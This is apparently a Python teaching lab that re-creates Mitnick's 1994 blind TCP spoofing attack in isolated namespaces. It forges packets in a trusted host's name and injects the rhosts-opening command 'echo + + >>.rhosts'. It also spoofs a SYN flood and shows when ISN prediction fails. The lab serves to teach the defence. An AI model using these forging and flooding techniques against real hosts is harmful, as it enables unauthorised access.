# SPDX-License-Identifier: GPL-2.0
"""
mitnick_lab.py [TRIES]: a handshake forged without seeing one answer.

Christmas 1994 in three namespaces: B trusts A by its address, X wants B to
believe that it is A. X sends in A's name and never sees what B answers, which
goes to A. It knows B's initial sequence number only if it can predict it, and A
must not object. Run as root in a throwaway VM: scripts/lab.sh does.

Exit status 1 if anything seen is not what it should be.
"""
import argparse
import json
import sys
import textwrap
import time

import lab
from ladder import WIDTH, End, Ladder, TooSlow, paint
from lab import A, B, Fail, Lab, check, equal, wait_for
from wire import MSS, RAW, Raw, abort, attempt, packet_socket, read, seq32

MAC_X = "02:00:00:00:53:09"
SHELL, TRUSTED_PORT, LOGIN = 514, 1023, 513
TEXT = b"echo + + >>.rhosts"
FIXED = 7654321
TICK_NS = 64                # RFC 6528: the clock in an initial number
TRIES = 1000000


class Three(Ladder):
    """A on the left, B on the right, and what X sends in A's name."""

    def __init__(self, me, left, flight):
        super().__init__(End(me.a, A, TRUSTED_PORT, f"A {A}:{TRUSTED_PORT}, X--: forged by X", left),
                         End(me.b, B, SHELL, f"{B}:{SHELL} B"), flight)
        self.socks["x"] = packet_socket(me.x, "eth0", 3)

    def captured(self, name, packet, when, partial, addr):
        if name != "x" or addr[2] == lab.OUTGOING:
            super().captured(name, packet, when, partial, addr)

    def count(self, end, leaves):
        return sum(1 for e in self.events if e.seg and (e.end, e.leaves) == (end, leaves))

    def until(self, end, leaves, count, what):
        self.watch(lambda me: me.count(end, leaves) >= count, what)


class Mitnick:
    """The three hosts; l: Lab(middle=True)"""

    def __init__(self, l, delay=100):
        self.lab, self.a, self.b, self.delay = l, l.a, l.b, delay
        self.x = l.space("x")
        self.join()
        self.spy = Raw(self.x, self.b)      # X, with an address of its own
        self.ladder = None
        # what is asked once is asked once: the pictures show it
        self.b.sysctl("synack_waits_ms", " ".join(["60000"] * 16))
        self.shell = self.b.listen(SHELL)
        self.shell.setblocking(False)

    def join(self):
        """X at the same bridge; what is for others does not pass its port."""
        r, x = self.lab.r, self.x
        r.netlink.add_link("rx", "veth", None, "eth0", MAC_X, x)
        r.netlink.up("rx", master="br0")
        x.netlink.up("eth0")
        for ns, dev in ((r, "rx"), (x, "eth0")):
            lab.offloads_off(ns, dev)
            ns.netlink.activate(dev)
        wait_for(lambda: r.netlink.running("rx"), 10, "port rx")
        r.run(["bridge", "link", "set", "dev", "rx", "flood", "off"])
        self.b.neigh(RAW, MAC_X)

    # -- what can be done --

    def silence(self, yes, delay=True):
        """Nothing reaches A any more."""
        self.lab.netem(f"delay {self.delay}ms" if delay else None, toward="b")
        self.lab.netem("loss 100%" if yes else f"delay {self.delay}ms", toward="a")

    def sample(self):
        """B's number for a connection of X's own; and what time it was"""
        flow = self.spy.flow(SHELL)
        flow.send("S", options=MSS)
        number, at = flow.expect("SA").seq, time.monotonic_ns()
        flow.send("R")
        return number, at

    def entry(self):
        return [e for e in self.b.halfopen() if e["remote"].startswith(A + ":")]

    def forge_syn(self, sport=TRUSTED_PORT):
        flow = self.spy.flow(SHELL, sport, iss=1234567, src=A)
        flow.send("S", options=MSS)
        return flow


    def unseen(self):
        """X has read nothing that was for A."""
        self.spy.fence()
        seen = [key for key, segs in self.spy.queue.items() if key[0] == A and segs]
        check(not seen, f"X has seen segments for A: {seen}")

    def executed(self):
        """What the shell of B was told by someone it trusts, or None"""
        s = attempt(self.shell.accept)
        if s == "EAGAIN":
            return None
        s = s[0]
        try:
            equal(s.getpeername(), (A, TRUSTED_PORT), "who it is, as B believes")
            return read(s, len(TEXT))
        finally:
            abort(s)

    # -- the story --

    def works(self):
        """A fixed number and a silent A: B takes the text for A's."""
        self.b.sysctl("lab_isn", FIXED)
        self.silence(True)
        number, _ = self.sample()
        equal(number, FIXED, "what X learns of B's number")
        ladder = self.ladder = Three(self, "(silent)", self.delay / 1000)
        flow = self.forge_syn()
        ladder.until("b", True, 1, "the SYN-ACK")
        flow.send("PA", ack=number + 1, data=TEXT)
        ladder.until_states("(silent)", "ESTABLISHED")
        ladder.until("b", True, 2, "the ACK of the text")
        self.unseen()
        picture = ladder.draw()
        equal(self.executed(), TEXT, "what B takes for a command of A's")
        self.b.wait_gone(SHELL, TRUSTED_PORT)
        return picture

    def fails(self):
        """The default number: (picture, predicted, real)"""
        self.b.sysctl("lab_isn", 0)
        self.silence(True)
        number, at = self.sample()
        ladder = self.ladder = Three(self, "(silent)", self.delay / 1000)
        flow = self.forge_syn()
        ladder.until("b", True, 1, "the SYN-ACK")
        flight = self.delay * 10 ** 6       # B made its number when the SYN arrived
        guess = seq32(number + (time.monotonic_ns() - at - flight // 2) // TICK_NS)
        flow.send("PA", ack=guess + 1, data=TEXT)
        ladder.until("b", True, 2, "the RST")
        real = ladder.isn[SHELL]
        check(guess != real, "a lucky guess: one of 2^32")
        check(self.entry(), "a bad ACK has ended the half-open entry")
        flow.send("R", seq=flow.iss + 1)
        ladder.until_states("(silent)", "LISTEN")
        self.unseen()
        picture = ladder.draw()
        equal(self.executed(), None, "what B executes")
        return picture, number, guess, real

    def many(self, tries):
        """So many forged ACKs: what forge says, and B's counters"""
        self.b.sysctl("lab_isn", 0)
        self.silence(True, delay=False)
        before, start = self.b.stat(), time.monotonic()
        p = self.x.run([lab.program("forge"), "-p", str(lab.PROTO), "-P", str(SHELL),
                        "-n", str(tries), "-o", RAW], timeout=900)
        said = json.loads(p.stdout)
        self.spy.fence()
        took, stat = time.monotonic() - start, self.b.stat()
        moved = {k: stat[k] - before[k] for k in stat}
        equal(said["tries"], tries, "tries")
        # each was judged, and none was right
        equal(moved["OutRsts"], tries, "RSTs for bad ACKs")
        equal(moved["SynqAdded"], 2 * said["rounds"], "SYNs of X and in A's name")
        equal((moved["PassiveOpens"], moved["SynqCompleted"], self.executed()), (0, 0, None),
              "connections")
        return said, moved, took

    def objects(self):
        """A fixed number, but A can speak: it says that it knows nothing of this."""
        self.b.sysctl("lab_isn", FIXED)
        self.silence(False)
        number, _ = self.sample()
        ladder = self.ladder = Three(self, None, self.delay / 1000)
        flow = self.forge_syn()
        ladder.until("b", False, 2, "the RST of A")
        wait_for(lambda: not self.entry(), 5, "the half-open entry to vanish")
        flow.send("PA", ack=number + 1, data=TEXT)
        ladder.until("a", False, 2, "the RST of B")
        self.unseen()
        picture = ladder.draw()
        equal(self.executed(), None, "what B executes")
        return picture

    def flooded(self, syns=40):
        """The same while a listener of A's is flooded, and named as the source."""
        self.b.sysctl("lab_isn", FIXED)
        self.silence(False)
        for name, value in (("synq_overflow", 4), ("synq_prefix", 0)):
            self.a.sysctl(name, value)
        for i in range(syns):
            self.a.neigh(f"10.53.0.{100 + i}", MAC_X)
        noise = Raw(self.x, self.a)
        with self.a.listen(LOGIN, 8):
            for i in range(syns):
                noise.flow(LOGIN, src=f"10.53.0.{100 + i}").send("S", options=MSS)
            wait_for(lambda: self.a.stat()["ListenDrops"] >= syns - 8, 10, "A's queue to be full")
            full = len(self.a.halfopen())
            before = self.b.stat()["SynqReset"]
            self.forge_syn(LOGIN)
            wait_for(lambda: self.b.stat()["SynqReset"] > before, 10, "A's RST")
            check(not self.entry(), "the half-open entry is still there")
        noise.sock.close()
        return full, syns


# ---- what is printed ----

def say(text):
    print(textwrap.fill(" ".join(text.split()), WIDTH, initial_indent="   ",
                        subsequent_indent="   "))


def title(nr, text):
    print("\n" + paint(f"{nr}. {text}", "bold"))


def show(me, scene):
    """Play it; on a slow machine again, with more time."""
    for _ in range(3):
        try:
            return scene()
        except TooSlow:
            me.delay *= 2
        finally:
            if me.ladder:
                me.ladder.close()
            me.ladder = None
    raise Fail("this machine is too slow to watch")


def tell(me, tries):
    title(1, "B's number is fixed, A is silent: it works")
    say(f"""net.tcpx.lab_isn={FIXED} at B, and nothing reaches A. X connects once in its own name to
        learn B's number, then speaks in A's, blindly: no answer of B's passes X's port.""")
    print("\n" + "\n".join(show(me, me.works)))
    say(f"B has executed, as A's: {TEXT.decode()}")

    title(2, "B's number is the default, A is silent: it fails")
    say("""A clock and a keyed hash of the 4-tuple (RFC 6528), and a SYN cookie as well. Each 4-tuple
        has a number space of its own: what X learns from its own connections says nothing of those
        of A. The wrong ACK is answered by
        RST (to A), and the entry stays, for whom it may concern.""")
    picture, sampled, guess, real = show(me, me.fails)
    print("\n" + "\n".join(picture))
    off = min(seq32(guess - real), seq32(real - guess))
    say(f"""X was given {sampled} and predicted {guess} by the clock; it was {real}, {off} off. The
        last RST is X's: it knows its own number.""")

    title(3, f"{tries} tries")
    said, moved, took = me.many(tries)
    say(f"""{said['rounds']} times: sample, forge a SYN, up to 100 ACKs with numbers that B's clock
        can have reached since, each with text. {tries} tries in {took:.0f} s, {moved['OutRsts']}
        RSTs, {moved['PassiveOpens']} connections. One try succeeds with probability 2^-32, so
        {tries / 2 ** 32:.1g} successes were to be expected.""")

    title(4, "B's number is fixed, A can speak: it fails")
    say("""A never sent that SYN, so it answers B's SYN-ACK by RST. The entry at B vanishes, and the
        forged ACK, though its number is right, finds nothing.""")
    print("\n" + "\n".join(show(me, me.objects)))

    title(5, "A is flooded as in 1994: it fails all the same")
    full, syns = me.flooded()
    say(f"""{syns} forged SYNs fill the queue of A's port {LOGIN} ({full} entries), and X speaks in
        the name of that port. In 1994 a port with a full queue dropped whatever came, the SYN-ACK
        as well. Here only a SYN meets the queue: A sends its RST, the entry at B vanishes.""")


def main():
    parser = argparse.ArgumentParser(usage=__doc__)
    parser.add_argument("tries", nargs="?", type=int, default=TRIES, metavar="TRIES")
    args = parser.parse_args()
    if not lab.module_loaded():
        lab.insmod()
    with Lab(middle=True) as l:
        me = Mitnick(l)
        print(f"A {A} is trusted by B {B}; X, at the same switch, {RAW}, sends in A's name.")
        try:
            tell(me, args.tries)
        except Fail as e:
            print(paint(f"\nNot as it should be: {e}", "red"))
            return 1
        me.shell.close()
    print(paint("\nTo trust an address is the flaw. Numbers that nobody can predict, and a host that "
                "answers, only\nmake it hard to use.", "green"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
